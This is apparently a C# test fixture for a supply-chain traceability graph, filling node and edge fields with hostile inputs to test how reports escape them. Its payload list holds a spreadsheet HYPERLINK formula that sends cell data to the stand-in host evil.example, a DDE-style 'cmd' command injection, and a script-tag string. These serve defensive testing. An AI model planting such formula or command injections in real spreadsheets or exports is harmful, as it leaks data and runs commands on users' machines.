using Traceability.Core.Graph;
using Traceability.Core.Reference;
using Traceability.Core.Rules;
using Traceability.Core.Snapshots;

namespace Traceability.Storage.Tests.Reports;

/// <summary>A tiny graph whose text fields are spreadsheet formulas, markup and DOT syntax.</summary>
internal static class HostileGraph
{
    public static readonly string[] Payloads =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tTabbed", "\rReturn",
    ];

    public static RiskIndex Risk()
    {
        var b = new SnapshotBuilder();
        void Node(string id, string label, params (string, object)[] props) =>
            b.Add(new GraphNode(new NodeId(id), label, PropertyBag.From(props.Select(p => new KeyValuePair<string, object>(p.Item1, p.Item2)))));
        Node("=cmd", "Product", ("name", "=1+1 <script>alert(1)</script>"));
        Node("fac-1", "Facility", ("name", Payloads[0]), ("address", Payloads[1]), ("city", Payloads[2]), ("country", "CN"),
            ("facilityType", "factory"), ("productTypes", new[] { Payloads[3], "bolts" }));
        Node("fac-2", "Facility", ("name", Payloads[4]), ("address", Payloads[5]), ("country", "CN"), ("facilityType", "mine"));
        Node("@owner", "Company", ("name", "@Owner \"quoted\" {braces} \\ back\nslash"));
        b.Add(new GraphEdge(new NodeId("fac-2"), "SUPPLIES", new NodeId("fac-1"), PropertyBag.From([new("material", "-ore")])));
        b.Add(new GraphEdge(new NodeId("fac-1"), "SUPPLIES", new NodeId("=cmd"), PropertyBag.Empty));
        b.Add(new GraphEdge(new NodeId("@owner"), "OWNS", new NodeId("fac-1"), PropertyBag.From([new("percent", 100.0)])));
        return RuleEngine.Evaluate(b.Build(1), ReferenceLists.Empty);
    }
}
